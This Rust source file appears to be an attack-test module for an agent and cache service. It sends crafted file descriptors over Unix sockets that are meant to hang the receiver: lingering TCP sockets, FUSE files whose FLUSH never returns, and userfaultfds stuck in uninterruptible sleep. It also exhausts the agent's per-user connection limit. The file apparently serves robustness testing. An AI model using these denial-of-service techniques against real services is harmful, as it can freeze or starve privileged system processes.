//! Descriptors whose last close waits for as long as the attacker wants, sent to the agent.

use std::fs::File;
use std::io::{IoSlice, Read, Write};
use std::mem::MaybeUninit;
use std::net::{TcpListener, TcpStream};
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::os::unix::net::UnixDatagram;
use std::path::Path;
use std::time::Duration;

use aquifer_channel::paths::agent_socket;
use aquifer_channel::{frame_socket, receive_frame, send_frame};
use aquifer_ipc::{Frame, RunToken};
use rustix::net::sockopt::{Timeout, set_socket_linger, set_socket_timeout};
use rustix::net::{
    AddressFamily, SendAncillaryBuffer, SendAncillaryMessage, SendFlags, SocketAddrUnix, SocketType, sendmsg,
    socket,
};

use crate::{fuse, identity, sys};

/// Connections with such a descriptor.
const CONNECTIONS: usize = 24;
/// Connections that use up the agent's limit for a user.
const CONNECTIONS_BEFORE: usize = 2048;
/// Userfaultfds of a memory whose lock is held, each on a connection of its own.
const USERFAULTFDS: usize = 1024;
/// Longest wait for an agent that accepts no connection.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(1);
/// Seconds for which a socket lingers.
const LINGER_S: u64 = 100_000;

/// Sends TCP sockets with `SO_LINGER` and unsent data, in requests and in other packets, and keeps
/// the connections open until standard input ends. Returns whether any was sent.
pub fn lingering_sockets() -> bool {
    let agent = agent_socket();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let mut attempts = Attempts::default();
    let mut peers = Vec::new();
    for full in [false, true] {
        let fill = if full { CONNECTIONS_BEFORE } else { 0 };
        attempts.connections.extend((0..fill).map_while(|_| connect_to(&agent)));
        for number in 0..CONNECTIONS {
            let (socket, peer) = lingering_socket(&listener);
            peers.push(peer);
            attempts.send(&agent, number, socket.as_fd());
            // The one in the packet is to be the last, and this close waits if none was sent.
            std::thread::spawn(move || drop(socket));
        }
    }
    attempts.wait()
}

/// A connected socket whose last close waits.
fn lingering_socket(listener: &TcpListener) -> (TcpStream, TcpStream) {
    let address = listener.local_addr().expect("it listens");
    let mut socket = TcpStream::connect(address).expect("it listens");
    let (peer, _) = listener.accept().expect("a connection");
    socket.set_nonblocking(true).expect("a socket");
    while socket.write(&[0; 65_536]).is_ok() {}
    set_socket_linger(&socket, Some(Duration::from_secs(LINGER_S))).expect("a socket");
    (socket, peer)
}

/// Sends files of a FUSE server that answers no FLUSH. The arguments are the path of a FUSE device
/// and an empty folder. Returns whether any was sent.
pub fn waiting_files() -> bool {
    let agent = agent_socket();
    let argument = |number| std::env::args().nth(number).expect("a path");
    let mounted = fuse::mount(Path::new(&argument(2)), Path::new(&argument(3)));
    let mut attempts = Attempts::default();
    for number in 0..CONNECTIONS {
        attempts.send(&agent, number, mounted.file.as_fd());
    }
    attempts.wait()
}

/// Userfaultfds of a memory whose lock a process holds until this is dropped: no signal ends the
/// wait of their last close.
pub struct LockedMemory {
    pub userfaultfds: Vec<OwnedFd>,
    reader: i32,
    holder: i32,
    _mounted: fuse::Mounted,
    /// Closed after the end of the server, for which the close waits.
    _direct: File,
}

impl LockedMemory {
    /// Creates `count` userfaultfds. The paths are those of a FUSE device and of an empty folder.
    pub fn new(device: &str, folder: &str, count: usize) -> Self {
        let mut mounted = fuse::mount(Path::new(device), Path::new(folder));
        let direct = File::open(Path::new(folder).join("file")).expect("the server opens it");
        let reader = sys::fork(|| {
            let _never = (&mounted.file).read(&mut [0; sys::PAGE]);
        });
        mounted.reads.read_exact(&mut [0]).expect("the server runs");
        let (to_parent, from_child) = UnixDatagram::pair().expect("descriptors");
        let holder = sys::fork(|| {
            for _ in 0..count {
                let userfaultfd = sys::userfaultfd_of_user_mode();
                send_frame(&to_parent, &Frame::Welcome, &[userfaultfd.as_fd()]).expect("the parent receives");
            }
            sys::map_file(&direct);
        });
        let receive = |_| receive_frame(&from_child).expect("the child sends").1.pop().expect("a descriptor");
        let userfaultfds = (0..count).map(receive).collect();
        while !is_stuck(holder) {
            std::thread::yield_now();
        }
        Self { userfaultfds, reader, holder, _mounted: mounted, _direct: direct }
    }
}

impl Drop for LockedMemory {
    fn drop(&mut self) {
        sys::kill(self.reader);
        sys::kill(self.holder);
    }
}

/// Sends userfaultfds of a memory whose lock a process holds for ever. The arguments are the path
/// of a FUSE device and an empty folder. Returns whether any was sent.
pub fn locked_memories() -> bool {
    let agent = agent_socket();
    let argument = |number| std::env::args().nth(number).expect("a path");
    let mut memory = LockedMemory::new(&argument(2), &argument(3), USERFAULTFDS);
    let mut attempts = Attempts::default();
    for (number, userfaultfd) in std::mem::take(&mut memory.userfaultfds).into_iter().enumerate() {
        attempts.send(&agent, number, userfaultfd.as_fd());
        // The one in the packet is to be the last, and this close waits if none was sent.
        std::thread::spawn(move || drop(userfaultfd));
    }
    attempts.wait()
}

/// Sends such userfaultfds to a cache. The arguments are the path of a FUSE device, an empty
/// folder, and the path of the cache's socket. Returns whether any was sent.
pub fn locked_cache() -> bool {
    let argument = |number| std::env::args().nth(number).expect("a path");
    let mut memory = LockedMemory::new(&argument(2), &argument(3), USERFAULTFDS);
    let cache = SocketAddrUnix::new(argument(4)).expect("a short path");
    let mut connections = Vec::new();
    for userfaultfd in std::mem::take(&mut memory.userfaultfds) {
        let socket = socket(AddressFamily::UNIX, SocketType::STREAM, None).expect("a socket");
        set_socket_timeout(&socket, Timeout::Send, Some(CONNECT_TIMEOUT)).expect("a socket");
        if rustix::net::connect(&socket, &cache).is_err() {
            break;
        }
        let descriptors = [userfaultfd.as_fd()];
        let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
        let mut ancillary = SendAncillaryBuffer::new(&mut space);
        ancillary.push(SendAncillaryMessage::ScmRights(&descriptors));
        let request = [IoSlice::new(b"version\r\n")];
        if sendmsg(&socket, &request, &mut ancillary, SendFlags::NOSIGNAL).is_ok() {
            connections.push(socket);
        }
        // The one in the packet is to be the last, and this close waits if none was sent.
        std::thread::spawn(move || drop(userfaultfd));
    }
    let has_sent = !connections.is_empty();
    // The queues are closed by the cache.
    drop(connections);
    println!("sent");
    let _end = std::io::stdin().read(&mut [0]);
    has_sent
}

/// Whether a process waits so that no signal ends it.
fn is_stuck(process: i32) -> bool {
    let stat = std::fs::read_to_string(format!("/proc/{process}/stat")).expect("it runs");
    stat.rsplit_once(')').is_some_and(|(_, fields)| fields.starts_with(" D"))
}

/// Executes a command that inherits a file of a FUSE server. Once another file exists, the server
/// answers no FLUSH: a process with the file cannot end, and keeps the descriptors that are behind
/// it. The arguments are the path of a FUSE device, an empty folder, the path of the other file,
/// and the command. Writes the number of the server's process to standard output.
pub fn inherited_file() -> bool {
    let arguments: Vec<_> = std::env::args().skip(2).collect();
    let [device, folder, signal, command @ ..] = &arguments[..] else { return false };
    let signal = Path::new(signal);
    let mounted = fuse::mount_as_root(Path::new(device), Path::new(folder), || signal.exists());
    println!("{}", mounted.server);
    rustix::io::fcntl_setfd(&mounted.file, rustix::io::FdFlags::empty()).expect("it is open");
    let error =
        std::os::unix::process::CommandExt::exec(std::process::Command::new(&command[0]).args(&command[1..]));
    panic!("{error}");
}

/// Connects without a check of the listening process.
fn connect_to(agent: &Path) -> Option<OwnedFd> {
    let socket = frame_socket().ok()?;
    set_socket_timeout(&socket, Timeout::Send, Some(CONNECT_TIMEOUT)).ok()?;
    rustix::net::connect(&socket, &SocketAddrUnix::new(agent).ok()?).ok()?;
    Some(socket)
}

/// Connections and descriptors of an attack.
#[derive(Default)]
struct Attempts {
    connections: Vec<OwnedFd>,
    sent: usize,
    is_refused: bool,
}

impl Attempts {
    /// Sends a descriptor in one of several ways, and closes some of the connections.
    fn send(&mut self, agent: &Path, number: usize, descriptor: BorrowedFd<'_>) {
        let socket = if self.is_refused { None } else { connect_to(agent) };
        // No process accepts connections any more.
        let Some(socket) = socket else { return self.is_refused = true };
        let sent = match number % 4 {
            0 => send_frame(&socket, &Frame::StatusRequest, &[descriptor]),
            1 => send_frame(&socket, &Frame::Welcome, &[descriptor; 12]),
            // Sent as if it were a userfaultfd.
            2 => send_frame(&socket, &identity::hello(RunToken([7; 16]), 0x3000_0000), &[descriptor]),
            // Sent behind a request that the agent answers.
            _ => send_frame(&socket, &Frame::StatusRequest, &[])
                .and_then(|()| send_frame(&socket, &Frame::StatusRequest, &[descriptor])),
        };
        self.sent += usize::from(sent.is_ok());
        if number % 8 < 4 {
            self.connections.push(socket);
        }
    }

    /// Reports that all is sent, and waits for the end of standard input. Returns whether a
    /// descriptor was sent.
    fn wait(self) -> bool {
        println!("sent");
        let _end = std::io::stdin().read(&mut [0]);
        self.sent > 0
    }
}
